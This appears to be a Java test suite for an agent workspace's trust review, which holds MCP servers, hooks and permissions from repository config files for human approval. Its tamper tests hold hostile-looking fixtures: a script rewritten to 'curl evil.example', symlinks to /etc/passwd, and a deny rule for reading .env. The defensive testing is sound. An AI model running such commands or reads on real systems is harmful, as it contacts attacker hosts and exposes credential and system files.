package dev.perdure.activities.workspace;

import static org.assertj.core.api.Assertions.assertThat;

import dev.perdure.activities.config.Settings;
import dev.perdure.activities.config.TaskConfiguration;
import dev.perdure.activities.files.WorktreePaths;
import dev.perdure.activities.trust.TrustedFilesCheck;
import dev.perdure.planner.id.TaskId;
import dev.perdure.planner.json.JsonObject;
import dev.perdure.planner.permission.RuleLayer;
import dev.perdure.planner.request.HumanRequest;
import dev.perdure.planner.request.Outcome;
import dev.perdure.planner.request.PendingRequest;
import dev.perdure.planner.request.RequestStatus;
import dev.perdure.planner.request.subject.TrustSubject;
import dev.perdure.planner.request.subject.TrustSubjectPart;
import dev.perdure.testing.Decided;
import dev.perdure.workflows.port.TaskRef;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@Tag("slow")
class TrustReviewTest extends WorkspaceScene {

  private static final String SERVERS =
      """
      {"mcpServers": {"memo": {"command": "./tools/memo.sh", "args": ["--fast"],
        "env": {"TOKEN": "${MEMO_TOKEN}"}}}}
      """;
  private static final String CLAUDE =
      """
      {"permissions": {"allow": ["Bash(npm run test:*)"], "deny": ["Read(./.env)"]},
       "hooks": {"PreToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command",
         "command": "\\"$CLAUDE_PROJECT_DIR\\"/tools/memo.sh guard"}]}]},
       "model": "opus"}
      """;

  @Test
  void asksOnceAboutAllThatFilesWouldRunOrLoosenAndFollowsNothingMeanwhile() {
    commitClaude();
    openTask();

    HumanRequest asked = asked(REF);

    assertThat(asked.risk().level()).isEqualTo("high");
    assertThat(parts(asked))
        .extracting(TrustSubjectPart::effect)
        .containsExactly(
            "Allows without asking: bash npm run test *",
            "Runs '\"$CLAUDE_PROJECT_DIR\"/tools/memo.sh guard' before each call of"
                + " 'edit|multiedit|patch|write'",
            "Runs './tools/memo.sh --fast' as the MCP server 'memo', which may reach the whole"
                + " network; it is given MEMO_TOKEN of this machine's environment");
    assertThat(parts(asked).getLast().scripts()).extracting("text").containsExactly("echo memo");
    assertThat(settings().mcp()).isEmpty();
    assertThat(settings().hooks().isEmpty()).isTrue();
    assertThat(layers()).doesNotContain(RuleLayer.TRUSTED);
    assertThat(notices()).anyMatch(notice -> notice.contains("settings.json' says model"));
    assertThat(deniesEnv()).as("a denial holds at once").isTrue();
  }

  @Test
  void aYesHoldsForTheTaskAndIsRememberedByContentUntilItIsRevoked() {
    commitClaude();
    openTask();
    decide(asked(REF), Outcome.APPROVE);
    users.write(".mcp.json", SERVERS.replace("--fast", "--evil"));

    assertThat(activities.reviewTrust(REF).request()).isNull();
    assertThat(settings().mcp().get("memo").args()).containsExactly("--fast");
    assertThat(settings().hooks().list("tool.before")).hasSize(1);
    assertThat(records.permissionStore().configured(TASK).orElseThrow())
        .filteredOn(rules -> rules.layer() == RuleLayer.TRUSTED)
        .extracting("source")
        .containsExactly(".claude/settings.json, trusted by ada");
    assertThat(activities.reviewTrust(another("t_2")).request()).as("the same content").isNull();
    records.permissionStore().standingTrust(Optional.empty()).forEach(part -> revoke(part.id()));
    assertThat(parts(asked(another("t_3")))).hasSize(3);
  }

  @Test
  void programsOfTheOwnFileWaitTooAndAreNotRunOnceTheirScriptDiffers() throws IOException {
    users.write("tools/memo.sh", "echo memo");
    commit(
        ".perdure/perdure.yaml",
        """
        mcp: {memo: {command: tools/memo.sh, network: [a.example]}}
        customTools: {shout: {description: Shouts, command: bash tools/memo.sh}}
        hooks: {tool.after: [{command: tools/memo.sh}]}
        """);
    openTask();
    decide(asked(REF), Outcome.APPROVE);
    activities.reviewTrust(REF);
    var place = workspace();
    var worktree = new WorktreePaths(place.directory(), place.gitDirectory(), List.of());
    var scripts = settings().customTools().get("shout").scripts();
    assertThat(settings().mcp()).containsOnlyKeys("memo");
    assertThat(settings().hooks().list("tool.after")).hasSize(1);
    assertThat(TrustedFilesCheck.refusal(worktree, scripts)).isEmpty();
    write("tools/memo.sh", "curl evil.example");
    assertThat(TrustedFilesCheck.refusal(worktree, scripts).orElseThrow())
        .isEqualTo(
            "The file 'tools/memo.sh' that it runs is not the one that was trusted: it is not run"
                + " in this task.");
  }

  @Test
  void contentThatChangedIsAskedAboutAloneAndANoNamesWhatIsNotFollowed() {
    commitClaude();
    openTask();
    decide(asked(REF), Outcome.APPROVE);
    activities.reviewTrust(REF);
    commit("tools/memo.sh", "curl evil.example");
    TaskRef next = another("t_2");
    HumanRequest again = asked(next);
    assertThat(parts(again))
        .extracting(TrustSubjectPart::name)
        .containsExactly("tool.before", "memo");
    decide(again, Outcome.REJECT);

    assertThat(activities.reviewTrust(next).request()).isNull();
    assertThat(settings(next.task()).mcp()).isEmpty();
    assertThat(records.permissionStore().configured(next.task()).orElseThrow())
        .as("what was trusted before still holds")
        .anyMatch(rules -> rules.layer() == RuleLayer.TRUSTED);
    assertThat(notices(next.task()))
        .anyMatch(notice ->
            notice.contains("not followed, as ada did not trust it")
                && notice.contains("the MCP server 'memo' of .mcp.json"));
  }

  @Test
  void aDecisionOnOtherPartsThanThereAreNowIsAskedAgain() throws Exception {
    commitClaude();
    openTask();
    HumanRequest first = asked(REF);
    own("mcp: {memo: {command: mine}}");
    decide(first, Outcome.APPROVE);

    HumanRequest second = asked(REF);

    assertThat(second.id()).isNotEqualTo(first.id());
    assertThat(parts(second)).extracting(TrustSubjectPart::name).doesNotContain("memo");
    assertThat(settings().hooks().isEmpty()).isTrue();
    own("");
    assertThat(activities.reviewTrust(REF).request()).as("what was approved").isNull();
    assertThat(status(second)).isEqualTo(RequestStatus.WITHDRAWN);
  }

  @ParameterizedTest
  @CsvSource({
    "allow, 1, hold",
    "deny, 0, not followed",
  })
  void theHostsOwnFileAnswersWhereNobodyIsAsked(String trust, int servers, String word)
      throws Exception {
    own("trust: " + trust);
    commitClaude();
    openTask();

    assertThat(activities.reviewTrust(REF).request()).isNull();
    assertThat(settings().mcp()).hasSize(servers);
    assertThat(notices()).anyMatch(notice -> notice.contains(word) && notice.contains("'memo'"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"mcpServers\": | The file '.mcp.json' is wrong, line 1: it must hold one JSON object.",
        "[] | it must hold one JSON object",
        "{\"mcpServers\": {\"a b\": {\"command\": \"x\"}}} | Its programs are left out.",
        "{\"mcpServers\": {\"plug\": {\"type\": \"ws\"}}, \"more\": 1} | says more, the server"
            + " 'plug' of the type 'ws', which Perdure does not follow.",
        "{\"mcpServers\": {\"m\": {\"command\": \"sh link.sh\"}}} | it is a link, and links are"
            + " not followed",
      })
  void aFileThatCannotBeFollowedIsNamedAndTheTaskGoesOn(String text, String sentence)
      throws IOException {
    Files.createSymbolicLink(users.directory().resolve("link.sh"), Path.of("/etc/passwd"));
    commit(".mcp.json", text);
    openTask();

    assertThat(activities.reviewTrust(REF).request()).isNull();
    assertThat(notices()).anyMatch(notice -> notice.contains(sentence));
  }

  @Test
  void largeAndLinkedFilesAreNotReadAndAByteOrderMarkIsNoFault() throws IOException {
    commit(".mcp.json", "{\"a\": \"" + "x".repeat(10 << 20) + "\"}");
    Files.createDirectories(users.directory().resolve(".claude"));
    Files.createSymbolicLink(
        users.directory().resolve(".claude/settings.json"), Path.of("/etc/passwd"));
    commit("opencode.json", "\uFEFF{\"mcp\": {\"<b>x</b>\": {}, \"ok\": {\"url\": \"http://a\"}}}");
    openTask();

    assertThat(parts(asked(REF))).extracting(TrustSubjectPart::name).containsExactly("ok");
    assertThat(notices())
        .anyMatch(notice -> notice.contains("has 10485769 bytes, and at most 262144 are read"))
        .anyMatch(
            notice -> notice.contains("'.claude/settings.json' is wrong, line 1: it is a link"))
        .anyMatch(notice -> notice.contains("mcp.<b>x</b> without a command or a url"));
  }

  private void commitClaude() {
    users.write("tools/memo.sh", "echo memo");
    users.write(".claude/settings.json", CLAUDE);
    commit(".mcp.json", SERVERS);
  }

  private void commit(String path, String text) {
    users.write(path, text);
    users.git("add", "-A");
    users.git("commit", "-m", "Settings");
  }

  private void own(String text) throws IOException {
    Files.createDirectories(temporary.resolve("config"));
    Files.writeString(temporary.resolve("config/perdure.yaml"), text);
  }

  private TaskRef another(String id) {
    TaskRef task = new TaskRef(new TaskId(id));
    create(task.task(), JsonObject.empty(), users.directory().toString());
    activities.open(task);
    return task;
  }

  private HumanRequest asked(TaskRef task) {
    @Nullable PendingRequest request = activities.reviewTrust(task).request();
    assertThat(request).isNotNull();
    records.requestStore().raise(request.id());
    return records.requestReader().find(request.id()).orElseThrow().request();
  }

  private RequestStatus status(HumanRequest request) {
    return records.requestReader().find(request.id()).orElseThrow().request().status();
  }

  private static List<TrustSubjectPart> parts(HumanRequest request) {
    return ((TrustSubject) request.subject()).parts();
  }

  private void decide(HumanRequest request, Outcome outcome) {
    var decided = Decided.on(request.id(), request.digest(), outcome).by("ada", Instant.EPOCH);
    records.requestStore().settle(decided.decision());
  }

  private void revoke(String id) {
    assertThat(records.permissionStore().revokeTrust(id, "bob")).isPresent();
    assertThat(records.permissionStore().revokeTrust(id, "bob")).isEmpty();
  }

  private Settings settings() {
    return settings(TASK);
  }

  private Settings settings(TaskId task) {
    return records.taskStore().configuration(task).map(TaskConfiguration::settings).orElseThrow();
  }

  private List<RuleLayer> layers() {
    return records.permissionStore().configured(TASK).orElseThrow().stream()
        .map(rules -> rules.layer())
        .toList();
  }

  private boolean deniesEnv() {
    return records.permissionStore().configured(TASK).orElseThrow().stream()
        .flatMap(rules -> rules.rules().stream())
        .anyMatch(rule -> rule.pattern().pattern().equals(".env"));
  }
}
